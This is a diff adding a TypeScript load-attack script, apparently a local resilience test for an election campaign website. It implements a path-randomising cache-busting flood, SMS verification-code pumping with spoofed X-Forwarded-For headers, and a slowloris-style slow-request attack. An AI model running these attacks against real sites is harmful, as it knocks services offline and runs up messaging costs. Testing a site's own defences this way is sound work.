@@ -1,0 +1,82 @@
+import http from 'node:http';
+import net from 'node:net';
+
+/** `node attacker.ts KIND URL`: attacks a site on this machine until it is ended, and counts what it sent each second. */
+const [kind = '', site = ''] = process.argv.slice(2);
+const { hostname: host, port } = new URL(site);
+const agent = new http.Agent({ keepAlive: true, maxSockets: 64 });
+
+const PAGES = ['propuestas', 'noticias', 'candidata', 'elecciones', 'equipo', 'contacto'];
+const anyOf = <Item>(items: Item[]) => items[Math.floor(Math.random() * items.length)] as Item;
+const hex = () => Math.floor(Math.random() * 65_536).toString(16);
+
+/** Each is one attack, once; the number says how often a second. */
+const ATTACKS: Record<string, { perSecond: number; once: () => void }> = {
+  /** Every page under addresses that nobody has written yet. */
+  spellings: {
+    perSecond: 2_000,
+    once: () => {
+      const page = [...anyOf(PAGES)]
+        .map((letter) => anyOf([letter, letter.toUpperCase(), `%${letter.charCodeAt(0).toString(16)}`]))
+        .join('');
+      const news = `/noticias/${'0'.repeat(Math.floor(Math.random() * 9))}${Math.floor(Math.random() * 5_000)}`;
+      get(anyOf([`/${page}${'/'.repeat(Math.floor(Math.random() * 20))}`, news, `/${page}${hex()}`]));
+    },
+  },
+  /** Codes for ever new phones, asked for from one IPv6 /48. */
+  codes: {
+    perSecond: 200,
+    once: () => {
+      const phone = `09${String(Math.floor(Math.random() * 10_000_000)).padStart(7, '0')}`;
+      post('/api/verificar-telefono/enviar', { telefono: phone }, `2001:db8:1:${hex()}::${hex()}`);
+    },
+  },
+  /** Requests whose headers or bodies never end; 6,000 of them are open after ten seconds. */
+  halves: {
+    perSecond: 600,
+    once: () => {
+      const socket = net.connect(Number(port), host).on('error', () => {});
+      const head = `POST /api/contacto HTTP/1.1\r\nhost: ${host}\r\n`;
+      socket.write(anyOf([head, `${head}content-type: application/json\r\ncontent-length: 5000\r\n\r\n{`]));
+      const drip = setInterval(() => socket.writable && socket.write('a'), 3_000);
+      socket.on('close', () => clearInterval(drip));
+    },
+  },
+};
+
+function get(path: string) {
+  sent(http.get({ agent, host, port, path }));
+}
+
+function post(path: string, body: object, from: string) {
+  const headers = {
+    'content-type': 'application/json',
+    'x-api-key': 'lista-104025',
+    'x-forwarded-for': from,
+  };
+  sent(http.request({ agent, host, port, path, method: 'POST', headers })).end(JSON.stringify(body));
+}
+
+const statuses: Record<number, number> = {};
+function sent(request: http.ClientRequest) {
+  return request
+    .on('error', () => {})
+    .on('response', (response) => {
+      statuses[response.statusCode ?? 0] = (statuses[response.statusCode ?? 0] ?? 0) + 1;
+      response.resume();
+    });
+}
+
+const TICK_MS = 10;
+const attack = ATTACKS[kind];
+if (!attack) throw new Error(`No attack is called ${kind}.`);
+const begun = performance.now();
+let made = 0;
+setInterval(() => {
+  const due = ((performance.now() - begun) / 1_000) * attack.perSecond;
+  for (; made < due; made++) attack.once();
+}, TICK_MS);
+process.on('message', () => {
+  process.send?.({ perSecond: made / ((performance.now() - begun) / 1_000), statuses });
+  process.exit(0);
+});
